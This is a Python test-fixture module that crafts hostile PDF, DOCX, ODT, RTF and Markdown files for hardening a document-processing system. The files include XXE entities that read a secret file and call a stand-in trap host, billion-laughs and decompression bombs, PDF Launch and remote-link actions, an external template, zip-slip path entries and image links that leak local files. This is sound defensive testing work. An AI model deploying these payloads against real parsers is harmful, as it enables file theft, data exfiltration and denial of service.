"""Documents that unpack to more than there is room for, or that point elsewhere."""

import zipfile
import zlib
from pathlib import Path

from crafting import Bait, Crafted, Make, cut, data, text

XXE = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file://{secret}"><!ENTITY y SYSTEM "{trap}/x">]>'
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a0 "haha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 11))
    + "]>"
)
_WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_BODY = f"<w:document {_WORD}><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>"
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s"%s/></Relationships>'
)
_ROOT = _RELATION % ("officeDocument", "word/document.xml", "")
_OUTSIDE = _RELATION % ("attachedTemplate", "{trap}/t.dotm", ' TargetMode="External"')
_ODF = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" office:version="1.2">'
    "<office:body><office:text><text:p>%s</text:p>"
    "</office:text></office:body></office:document-content>"
)
_LINKED = "".join(
    f'<draw:frame draw:name="{name}" text:anchor-type="as-char" svg:width="5cm" svg:height="5cm">'
    f'<draw:image xlink:href="{address}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>'
    for name, address in (("a", "file://{secret}"), ("b", "{trap}/a.png"))
)
_STYLE = 'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"'
_BULLET = (
    (_ODF % "{list}")
    .replace(
        "<text:p>{list}</text:p>",
        '<text:list text:style-name="l"><text:list-item><text:p/></text:list-item></text:list>',
    )
    .replace(
        "<office:body>",
        f'<office:automatic-styles {_STYLE}><text:list-style style:name="l"><text:list-level-style-image '
        'text:level="1" xlink:href="%s" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad">'
        "<style:list-level-properties "
        'xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" fo:width="3cm" fo:height="3cm"/>'
        "</text:list-level-style-image></text:list-style></office:automatic-styles><office:body>",
    )
)
_MANIFEST = (
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
    '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
)


def _archive(parts: dict[str, str | bytes]) -> Make:
    def make(path: Path, bait: Bait) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, part in parts.items():
                filled = part
                if isinstance(filled, str):
                    filled = filled.replace("{secret}", str(bait.secret)).replace("{trap}", bait.trap)
                archive.writestr(name, filled)

    return make


def _docx(document: str | bytes, **more: str | bytes) -> Make:
    return _archive({"[Content_Types].xml": _TYPES, "_rels/.rels": _ROOT, "word/document.xml": document, **more})


def _odt(content: str) -> Make:
    kind = "application/vnd.oasis.opendocument.text"
    return _archive({"mimetype": kind, "META-INF/manifest.xml": _MANIFEST, "content.xml": content})


def _docx_bomb(path: Path, bait: Bait) -> None:
    _docx(b"<w:document>" + bytes(300_000_000))(path, bait)


def _many_entries(path: Path, bait: Bait) -> None:
    _docx(_BODY % "x", **{f"word/media/{n}.png": b"" for n in range(20_000)})(path, bait)


def pdf_of(objects: list[bytes]) -> bytes:
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    return out + head + table + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, len(out))


def page_of(box: bytes, content: bytes = b"", more: bytes = b"", catalog: bytes = b"") -> list[bytes]:
    packed = zlib.compress(content)
    return [
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R%s>>" % (box, more),
        b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(packed), packed),
    ]


def _pdf_that_points_out(path: Path, bait: Bait) -> None:
    secret, trap = str(bait.secret).encode(), bait.trap.encode()
    opening = b"/OpenAction<</S/Launch/F(%s)/Next<</S/URI/URI(%s)>>>>" % (secret, trap)
    more = (
        b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(%s)/D[0]>>>>]/Resources<</XObject<</X 5 0 R>>>>" % secret
    )
    outside = (
        b"<</Type/XObject/Subtype/Image/Width 9/Height 9/F<</FS/URL/F(%s/a)>>/Length 0>>stream\n\nendstream" % trap
    )
    path.write_bytes(pdf_of([*page_of(b"0 0 99 99", b"/X Do", more, opening), outside]))


def _stream_bomb(path: Path, _bait: Bait) -> None:
    """Compress twice: some hundred bytes become three hundred million."""
    body = zlib.compress(zlib.compress(bytes(300_000_000), 9), 9)
    pages = page_of(b"0 0 99 99")
    pages[3] = b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n%s\nendstream" % (len(body), body)
    path.write_bytes(pdf_of(pages))


def _circle(path: Path, _bait: Bait) -> None:
    path.write_bytes(pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9999999>>"]))


def _many_pages(path: Path, _bait: Bait) -> None:
    kids = b"3 0 R " * 100_000
    pages = page_of(b"0 0 99 99")
    pages[1] = b"<</Type/Pages/Kids[%s]/Count 100000>>" % kids
    path.write_bytes(pdf_of(pages))


_STROKES = b"".join(b"%d %d m %d %d l S\n" % (n % 600, n % 700, n % 500, n % 400) for n in range(40_000))

PAPERS = [
    Crafted("huge-page.pdf", "paper", data(pdf_of(page_of(b"0 0 1000000 1000000", b"0 0 9 9 re f")))),
    Crafted("ribbon.pdf", "paper", data(pdf_of(page_of(b"0 0 1 14400", b"0 0 9 9 re f")))),
    Crafted("nan-page.pdf", "paper", data(pdf_of(page_of(b"0 0 -1 1e999", b"0 0 9 9 re f")))),
    Crafted("strokes.pdf", "paper", data(pdf_of(page_of(b"0 0 600 700", _STROKES)))),
    Crafted("many-pages.pdf", "paper", _many_pages),
    Crafted("circle.pdf", "paper", _circle),
    Crafted("stream-bomb.pdf", "paper", _stream_bomb),
    Crafted("out.pdf", "paper", _pdf_that_points_out),
    Crafted("cut.pdf", "paper", cut(data(pdf_of(page_of(b"0 0 99 99", b"0 0 9 9 re f"))), 0.5)),
    Crafted("bomb.docx", "paper", _docx_bomb),
    Crafted("entries.docx", "paper", _many_entries),
    Crafted("xxe.docx", "paper", _docx(XXE + _BODY % "&x;&y;")),
    Crafted("laughs.docx", "paper", _docx(LAUGHS + _BODY % "&a10;")),
    Crafted("outside.docx", "paper", _docx(_BODY % "x", **{"word/_rels/document.xml.rels": _OUTSIDE})),
    Crafted("slip.docx", "paper", _docx(_BODY % "x", **{"../../../../tmp/evil": b"x", "/tmp/evil": b"x"})),
    Crafted("cut.docx", "paper", cut(_docx(_BODY % "x"), 0.6)),
    Crafted("xxe.odt", "paper", _odt(XXE + _ODF % "&x;&y;")),
    Crafted("laughs.odt", "paper", _odt(LAUGHS + _ODF % "&a10;")),
    Crafted("linked.odt", "paper", _odt(_ODF % _LINKED)),
    # LibreOffice 25.2 follows this although its profile forbids it; 26.8 does not.
    Crafted("bullet.odt", "paper", _odt(_BULLET % "file://{secret}")),
    Crafted("bullet-elsewhere.odt", "paper", _odt(_BULLET % "{trap}/a.png")),
    Crafted("linked.rtf", "paper", text(r"{\rtf1 x {\field{\*\fldinst INCLUDEPICTURE {secret} \\d}{\fldrslt y}}}")),
    Crafted(
        "elsewhere.rtf", "paper", text(r"{\rtf1 x {\field{\*\fldinst INCLUDEPICTURE {trap}/a.png \d}{\fldrslt y}}}")
    ),
    Crafted("linked.md", "paper", text("# x\n![a](file://{secret}) ![b]({trap}/a.png) <img src='{trap}/b.png'>\n")),
    Crafted("line.txt", "paper", data(b"x" * 5_000_000)),
    Crafted("lines.txt", "paper", data(b"\n" * 5_000_000)),
    Crafted("noise.txt", "paper", data(bytes(range(256)) * 400)),
]
